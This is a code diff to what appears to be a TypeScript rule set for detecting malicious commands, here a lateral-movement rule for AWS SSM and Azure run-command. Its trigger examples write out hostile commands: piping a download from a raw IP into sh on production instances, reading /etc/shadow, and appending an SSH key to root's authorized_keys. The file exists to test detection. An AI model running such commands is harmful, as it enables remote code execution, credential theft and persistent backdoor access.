@@ -321,7 +321,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-LATERAL-004', name: 'cloud-run-command-payload', score: 88, tactic: 'lateral_movement', technique: 'T1651', strong: true,
     message: 'Runs a payload on cloud instances through SSM or VM run-command', why: 'Cloud run-command executes as root on instances without SSH; attackers with IAM access use it to spread.',
     check: remotePayload(CLOUD),
-    examples: { fire: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information'] },
+    examples: { fire: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters 'commands=[\"curl -s http://45.33.12.7/x | sh\"]'", "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'cat /etc/shadow'", "aws ssm send-command --document-name AWS-RunShellScript --instance-ids i-0abc --parameters commands='echo ssh-ed25519 AAAA x >> /root/.ssh/authorized_keys'"], quiet: ["aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=dev --parameters 'commands=[\"systemctl restart app\"]'", 'aws ssm describe-instance-information', "az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts 'df -h'"] },
   },
   {
     id: 'PX-LATERAL-005', name: 'ssh-with-foreign-key', score: 75, tactic: 'lateral_movement', technique: 'T1021.004',
@@ -405,7 +405,7 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       for (const c of i.view?.commands ?? []) {
         const values = [
-          ...(c.name === 'docker' || c.name === 'podman' ? c.argv.filter((a, k) => c.argv[k - 1] === '-H' || c.argv[k - 1] === '--host').concat(c.argv.filter((a) => a.startsWith('--host=')).map((a) => a.slice(7))) : []),
+          ...(c.name === 'docker' || c.name === 'podman' ? c.argv.filter((_a, k) => c.argv[k - 1] === '-H' || c.argv[k - 1] === '--host').concat(c.argv.filter((a) => a.startsWith('--host=')).map((a) => a.slice(7))) : []),
           ...envOf(c, 'DOCKER_HOST'),
         ];
         const remote = values.find((v) => /^tcp:\/\//.test(v) && destinationOf(v)?.kind !== 'loopback');
